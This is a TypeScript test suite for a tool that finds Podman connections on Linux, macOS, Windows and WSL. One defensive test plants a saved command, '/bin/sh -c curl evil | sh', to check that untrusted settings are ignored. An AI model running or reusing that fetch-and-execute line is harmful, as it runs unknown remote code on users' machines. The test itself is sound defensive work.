import { describe, expect, it } from 'vitest';
import { candidateKey, parseEndpointUri } from '../../../src/main/podman/connection/endpoint-uri';
import {
  findCandidates,
  fromEnvironment,
  fromPodmanConnections,
  linuxSockets,
  macMachines,
  machinePipeName,
  sharedLookup,
  windowsMachines,
  wslDistroOf,
  wslDistros,
  wslRelayArgv,
  wslSharedSockets,
  type FinderDeps,
} from '../../../src/main/podman/connection/finders';
import { detectPlatform, findPodmanBinary, installHint, startAction } from '../../../src/main/podman/connection/platform';
import { fakeFs, fakeRunner } from '../../support/fakes';

describe('endpoint URIs', () => {
  it.each([
    ['unix:///run/user/1000/podman/podman.sock', { kind: 'unix', path: '/run/user/1000/podman/podman.sock' }],
    ['unix:/run/podman/podman.sock', { kind: 'unix', path: '/run/podman/podman.sock' }],
    ['npipe:////./pipe/podman-machine-default', { kind: 'npipe', path: '//./pipe/podman-machine-default' }],
    ['npipe://./pipe/docker_engine', { kind: 'npipe', path: '//./pipe/docker_engine' }],
    ['tcp://10.0.0.5:2375', { kind: 'tcp', host: '10.0.0.5', port: 2375 }],
    [
      'ssh://core@127.0.0.1:50123/run/user/501/podman/podman.sock',
      { kind: 'ssh', host: '127.0.0.1', port: 50123, username: 'core', socketPath: '/run/user/501/podman/podman.sock' },
    ],
    [
      'ssh://me@host/run/podman/podman.sock',
      { kind: 'ssh', host: 'host', port: 22, username: 'me', socketPath: '/run/podman/podman.sock' },
    ],
  ])('reads %s', (uri, endpoint) => {
    expect(parseEndpointUri(uri)).toEqual(endpoint);
  });

  it.each(['', 'unix://relative/path', 'http://nohost', 'ssh://host-without-user/sock', 'ftp://x:1', 'npipe://nothing'])(
    'refuses %j',
    (uri) => {
      expect(parseEndpointUri(uri)).toBeNull();
    },
  );

  it('keeps the ssh identity', () => {
    expect(parseEndpointUri('ssh://u@h:22/s.sock', '/home/u/.ssh/id')).toMatchObject({ identity: '/home/u/.ssh/id' });
  });
});

describe('environment', () => {
  it('reads CONTAINER_HOST before DOCKER_HOST, and skips what it cannot read', () => {
    const found = fromEnvironment({ CONTAINER_HOST: 'unix:///a.sock', DOCKER_HOST: 'garbage' });
    expect(found).toEqual([
      { endpoint: { kind: 'unix', path: '/a.sock' }, source: 'environment', label: 'CONTAINER_HOST=unix:///a.sock' },
    ]);
    expect(fromEnvironment({ DOCKER_HOST: 'unix:///b.sock' })[0]?.endpoint).toEqual({ kind: 'unix', path: '/b.sock' });
    expect(fromEnvironment({})).toEqual([]);
  });
});

describe('podman system connection list', () => {
  const list = JSON.stringify([
    { Name: 'remote', URI: 'ssh://me@box:22/run/podman/podman.sock', Identity: '/k', Default: false },
    {
      Name: 'podman-machine-default',
      URI: 'ssh://core@127.0.0.1:5000/run/user/1000/podman/podman.sock',
      Identity: '/id',
      Default: true,
    },
    { Name: 'broken', URI: 'what' },
  ]);

  it('puts the default connection first', async () => {
    const found = await fromPodmanConnections(fakeRunner({ 'system connection list --format json': list }), '/usr/bin/podman');
    expect(found.map((c) => c.label)).toEqual(['podman-machine-default (default connection)', 'remote']);
    expect(found[0]!.endpoint).toMatchObject({ kind: 'ssh', port: 5000, identity: '/id' });
  });

  it('spawns nothing without podman, and survives bad output', async () => {
    const run = fakeRunner({});
    expect(await fromPodmanConnections(run, null)).toEqual([]);
    expect(run.calls).toEqual([]);
    expect(await fromPodmanConnections(fakeRunner({ 'connection list --format json': 'not json' }), 'podman')).toEqual([]);
  });
});

describe('Linux', () => {
  it('finds the rootless socket in XDG_RUNTIME_DIR, then the rootful one, only if they exist', async () => {
    const fs = fakeFs({ '/run/user/1000/podman/podman.sock': '', '/run/podman/podman.sock': '' });
    const found = await linuxSockets({ XDG_RUNTIME_DIR: '/run/user/1000' }, fs);
    expect(found.map((c) => [c.source, c.endpoint])).toEqual([
      ['rootless-socket', { kind: 'unix', path: '/run/user/1000/podman/podman.sock' }],
      ['rootful-socket', { kind: 'unix', path: '/run/podman/podman.sock' }],
    ]);
    expect(await linuxSockets({}, fakeFs({}))).toEqual([]);
  });

  it('falls back to /run/user/<uid> when XDG_RUNTIME_DIR is unset (a double-click launch)', async () => {
    const found = await linuxSockets({}, fakeFs({ '/run/user/1001/podman/podman.sock': '' }), 1001);
    expect(found[0]?.endpoint).toEqual({ kind: 'unix', path: '/run/user/1001/podman/podman.sock' });
  });
});

describe('Windows', () => {
  it('uses each machine’s pipe from podman machine inspect, then the usual pipe', async () => {
    const run = fakeRunner({
      'machine list --format json': JSON.stringify([{ Name: 'dev' }, { Name: 'podman-machine-default*', Default: true }]),
      'machine inspect podman-machine-default dev': JSON.stringify([
        { Name: 'podman-machine-default', ConnectionInfo: { PodmanPipe: { Path: '\\\\.\\pipe\\podman-machine-default' } } },
        { Name: 'dev', ConnectionInfo: { PodmanPipe: null } },
      ]),
    });
    const found = await windowsMachines(run, 'C:\\podman.exe');
    expect(found.map((c) => c.endpoint)).toEqual([
      { kind: 'npipe', path: '//./pipe/podman-machine-default' },
      { kind: 'npipe', path: '//./pipe/podman-dev' },
      { kind: 'npipe', path: '//./pipe/podman-machine-default' },
    ]);
  });

  it('still offers the default pipe without the CLI', async () => {
    expect((await windowsMachines(fakeRunner({}), null)).map((c) => c.endpoint)).toEqual([
      { kind: 'npipe', path: '//./pipe/podman-machine-default' },
    ]);
  });

  it('names machine pipes as Podman does', () => {
    expect(machinePipeName('podman-machine-default')).toBe('podman-machine-default');
    expect(machinePipeName('dev')).toBe('podman-dev');
  });

  it('reaches Podman inside the user’s WSL distros with dial-stdio, run without a shell (wsl.exe writes UTF-16)', async () => {
    const utf16 = 'Ubuntu\r\npodman-machine-default\r\ndocker-desktop\r\nDebian\r\n'.split('').join('\0');
    const found = await wslDistros(fakeRunner({ 'wsl.exe --list --quiet': utf16 }));
    expect(found.map((c) => c.endpoint)).toEqual([
      { kind: 'command', argv: ['wsl.exe', '-d', 'Ubuntu', '--exec', 'podman', 'system', 'dial-stdio'] },
      { kind: 'command', argv: ['wsl.exe', '-d', 'Debian', '--exec', 'podman', 'system', 'dial-stdio'] },
    ]);
    expect(await wslDistros(fakeRunner({}))).toEqual([]);
  });

  it('knows a WSL relay by its argv, in today’s form and the older one, and nothing else', () => {
    const relay = (...argv: string[]) => ({ kind: 'command' as const, argv });
    expect(wslDistroOf(relay(...wslRelayArgv('Ubuntu 24.04')))).toBe('Ubuntu 24.04');
    expect(wslDistroOf(relay('wsl.exe', '-d', 'Debian', '--', 'podman', 'system', 'dial-stdio'))).toBe('Debian');
    expect(wslDistroOf(relay('C:\\Windows\\System32\\WSL.EXE', '-d', 'Debian', '--exec', 'podman', 'system', 'dial-stdio'))).toBe(
      'Debian',
    );
    expect(wslDistroOf(relay('wsl.exe', '-d', 'Debian', '--exec', 'sh', '-c', 'podman system dial-stdio'))).toBeNull();
    expect(wslDistroOf(relay('wsl.exe', '-d', 'Debian', '--exec', 'podman', 'system', 'dial-stdio', '--extra'))).toBeNull();
    expect(wslDistroOf(relay('socat', '-', 'UNIX-CONNECT:/x.sock'))).toBeNull();
    expect(wslDistroOf({ kind: 'unix', path: '/x.sock' })).toBeNull();
  });

  it('lists the distros once for look-ups made at the same time, and again for a later one', async () => {
    const run = fakeRunner({ 'wsl.exe --list --quiet': 'Ubuntu\r\n' });
    let release!: () => void;
    const gate = new Promise<void>((resolve) => (release = resolve));
    const slowRun: typeof run = Object.assign(
      async (...args: Parameters<typeof run>) => {
        await gate;
        return run(...args);
      },
      { calls: run.calls },
    );
    const list = sharedLookup(() => wslDistros(slowRun));
    const deps: FinderDeps = {
      platform: 'win32',
      env: {},
      fs: fakeFs(),
      run: slowRun,
      podmanPath: null,
      homedir: 'C:\\Users\\me',
      wslDistros: list,
    };
    const lookups = Promise.all([findCandidates(deps, null), findCandidates(deps, null), list()]);
    release();
    const [a, b, c] = await lookups;
    expect(run.calls.filter((call) => call.startsWith('wsl.exe'))).toHaveLength(1);
    expect(a.filter((x) => x.endpoint.kind === 'command')).toHaveLength(1);
    expect(b).toEqual(a);
    expect(c).toHaveLength(1);
    await list();
    expect(run.calls.filter((call) => call.startsWith('wsl.exe'))).toHaveLength(2);
  });

  it('starts no wsl.exe when only files may be read (the checks while Podman is silent)', async () => {
    const run = fakeRunner({ 'wsl.exe --list --quiet': 'Ubuntu\r\n' });
    const deps: FinderDeps = {
      platform: 'win32',
      env: {},
      fs: fakeFs(),
      run,
      podmanPath: null,
      homedir: 'C:\\Users\\me',
      filesOnly: true,
    };
    const found = await findCandidates(deps, { endpoint: { kind: 'command', argv: wslRelayArgv('Ubuntu') }, label: 'Ubuntu' });
    expect(run.calls).toEqual([]);
    expect(found.map((c) => c.endpoint.kind)).toEqual(['npipe']);
  });

  it('prefers machine pipes to ssh connections to the same machine', async () => {
    const run = fakeRunner({
      'system connection list --format json': JSON.stringify([
        { Name: 'podman-machine-default', URI: 'ssh://user@127.0.0.1:50000/run/user/1000/podman/podman.sock', Default: true },
        { Name: 'server', URI: 'ssh://me@build.example:22/run/podman/podman.sock' },
      ]),
      'machine list --format json': '[]',
      'machine inspect': '[]',
      'wsl.exe --list --quiet': '',
    });
    const deps: FinderDeps = {
      platform: 'win32',
      env: {},
      fs: fakeFs(),
      run,
      podmanPath: 'C:\\podman.exe',
      homedir: 'C:\\Users\\me',
    };
    const found = await findCandidates(deps, null);
    expect(found.map((c) => c.label)).toEqual([
      'server',
      'Podman machine podman-machine-default',
      'podman-machine-default (default connection)',
    ]);
  });
});

describe('macOS', () => {
  it('uses each machine’s API socket, then the usual places that exist', async () => {
    const run = fakeRunner({
      'machine list --format json': JSON.stringify([{ Name: 'podman-machine-default', Default: true }]),
      'machine inspect podman-machine-default': JSON.stringify([
        {
          Name: 'podman-machine-default',
          ConnectionInfo: { PodmanSocket: { Path: '/var/folders/x/T/podman/podman-machine-default-api.sock' } },
        },
      ]),
    });
    const fs = fakeFs({ '/Users/me/.local/share/containers/podman/machine/podman.sock': '' });
    const found = await macMachines(run, '/opt/podman/bin/podman', { TMPDIR: '/var/folders/x/T/' }, fs, '/Users/me');
    expect(found.map((c) => c.endpoint)).toEqual([
      { kind: 'unix', path: '/var/folders/x/T/podman/podman-machine-default-api.sock' },
      { kind: 'unix', path: '/Users/me/.local/share/containers/podman/machine/podman.sock' },
    ]);
  });
});

describe('WSL', () => {
  it('finds the sockets Podman machines share under /mnt/wsl', async () => {
    const fs = fakeFs(
      {
        '/mnt/wsl/podman-sockets/podman-machine-default/podman-user.sock': '',
        '/mnt/wsl/podman-sockets/podman-machine-default/podman-root.sock': '',
      },
      { '/mnt/wsl/podman-sockets': ['podman-machine-default'] },
    );
    const found = await wslSharedSockets(fs);
    expect(found.map((c) => c.label)).toEqual([
      'Podman machine podman-machine-default (rootless, shared with WSL)',
      'Podman machine podman-machine-default (rootful, shared with WSL)',
    ]);
    expect(await wslSharedSockets(fakeFs())).toEqual([]);
  });

  it('is told apart from plain Linux', async () => {
    expect(await detectPlatform('linux', { WSL_DISTRO_NAME: 'Ubuntu' }, fakeFs())).toBe('wsl');
    expect(
      await detectPlatform('linux', {}, fakeFs({ '/proc/version': 'Linux version 5.15.90.1-microsoft-standard-WSL2' })),
    ).toBe('wsl');
    expect(await detectPlatform('linux', {}, fakeFs({ '/proc/version': 'Linux version 6.1.0-13-amd64' }))).toBe('linux');
    expect(await detectPlatform('darwin', {}, fakeFs())).toBe('darwin');
    expect(await detectPlatform('freebsd', {}, fakeFs())).toBe('other');
  });
});

describe('the order of it all', () => {
  it('saved choice, then environment, then connections, then the sockets; no duplicates', async () => {
    const run = fakeRunner({
      'system connection list --format json': JSON.stringify([
        { Name: 'local', URI: 'unix:///run/user/1000/podman/podman.sock', Default: true },
      ]),
    });
    const deps: FinderDeps = {
      platform: 'linux',
      env: { CONTAINER_HOST: 'unix:///env.sock', XDG_RUNTIME_DIR: '/run/user/1000' },
      fs: fakeFs({ '/run/user/1000/podman/podman.sock': '', '/run/podman/podman.sock': '' }),
      run,
      podmanPath: '/usr/bin/podman',
      homedir: '/home/me',
    };
    const saved = { endpoint: { kind: 'unix' as const, path: '/saved.sock' }, label: 'mine' };
    const found = await findCandidates(deps, saved);
    expect(found.map((c) => c.source)).toEqual(['saved', 'environment', 'podman-connection', 'rootful-socket']);
    // Each has a stable, opaque key: what the page chooses by.
    const keys = found.map((c) => c.key);
    expect(new Set(keys).size).toBe(keys.length);
    for (const key of keys) expect(key).toMatch(/^[a-f0-9]{24}$/);
    expect((await findCandidates(deps, saved)).map((c) => c.key)).toEqual(keys);
    expect(found[0]!.key).toBe(candidateKey({ kind: 'unix', path: '/saved.sock' }));
  });

  it('never runs a saved command its own finders did not make (a settings file written through an old hole)', async () => {
    const logged: string[] = [];
    const deps: FinderDeps = {
      platform: 'linux',
      env: {},
      fs: fakeFs({ '/run/podman/podman.sock': '' }),
      run: fakeRunner({}),
      podmanPath: null,
      homedir: '/home/me',
      log: (message) => logged.push(message),
    };
    const planted = { endpoint: { kind: 'command' as const, argv: ['/bin/sh', '-c', 'curl evil | sh'] }, label: 'harmless' };
    const found = await findCandidates(deps, planted);
    expect(found.map((c) => c.endpoint.kind)).toEqual(['unix']);
    expect(logged.join('\n')).toMatch(/ignoring the saved connection “harmless”/);
  });

  it('keeps a saved command that its finders make too (a WSL distro chosen earlier)', async () => {
    const run = fakeRunner({ 'wsl.exe --list --quiet': 'Ubuntu\r\n' });
    const deps: FinderDeps = { platform: 'win32', env: {}, fs: fakeFs(), run, podmanPath: null, homedir: 'C:\\Users\\me' };
    const distro = {
      endpoint: { kind: 'command' as const, argv: ['wsl.exe', '-d', 'Ubuntu', '--exec', 'podman', 'system', 'dial-stdio'] },
      label: 'Podman in WSL distro Ubuntu',
    };
    const found = await findCandidates(deps, distro);
    expect(found[0]).toMatchObject({ source: 'saved', endpoint: distro.endpoint });
    expect(found.filter((c) => c.endpoint.kind === 'command')).toHaveLength(1);
  });

  it('keeps a distro saved in the older form, as today’s relay (no shell)', async () => {
    const run = fakeRunner({ 'wsl.exe --list --quiet': 'Ubuntu\r\n' });
    const deps: FinderDeps = { platform: 'win32', env: {}, fs: fakeFs(), run, podmanPath: null, homedir: 'C:\\Users\\me' };
    const older = {
      endpoint: { kind: 'command' as const, argv: ['wsl.exe', '-d', 'Ubuntu', '--', 'podman', 'system', 'dial-stdio'] },
      label: 'Podman in WSL distro Ubuntu',
    };
    const found = await findCandidates(deps, older);
    expect(found[0]).toMatchObject({ source: 'saved', endpoint: { kind: 'command', argv: wslRelayArgv('Ubuntu') } });
    expect(found.filter((c) => c.endpoint.kind === 'command')).toHaveLength(1);
  });
});

describe('finding podman itself (no process spawned)', () => {
  it('looks in PATH, then the usual install folders of each platform', async () => {
    expect(await findPodmanBinary('linux', { PATH: '/opt/bin:/usr/bin' }, fakeFs({ '/usr/bin/podman': '' }))).toBe(
      '/usr/bin/podman',
    );
    expect(await findPodmanBinary('darwin', { PATH: '/usr/bin' }, fakeFs({ '/opt/homebrew/bin/podman': '' }))).toBe(
      '/opt/homebrew/bin/podman',
    );
    expect(
      await findPodmanBinary(
        'win32',
        { Path: 'C:\\Windows', ProgramFiles: 'C:\\Program Files' },
        fakeFs({ 'C:\\Program Files\\RedHat\\Podman\\podman.exe': '' }),
      ),
    ).toBe('C:\\Program Files\\RedHat\\Podman\\podman.exe');
    expect(await findPodmanBinary('linux', { PATH: '/bin' }, fakeFs())).toBeNull();
  });

  it('has an install hint and a start action for each platform', () => {
    expect(installHint('win32').steps.join(' ')).toMatch(/podman machine init/);
    expect(installHint('darwin').steps.join(' ')).toMatch(/brew install podman/);
    expect(installHint('wsl').title).toMatch(/WSL/);
    expect(installHint('linux').steps.join(' ')).toMatch(/apt install podman/);
    expect(startAction('win32')).toBe('podman machine start');
    expect(startAction('linux')).toBe('podman system service --time=0');
  });
});
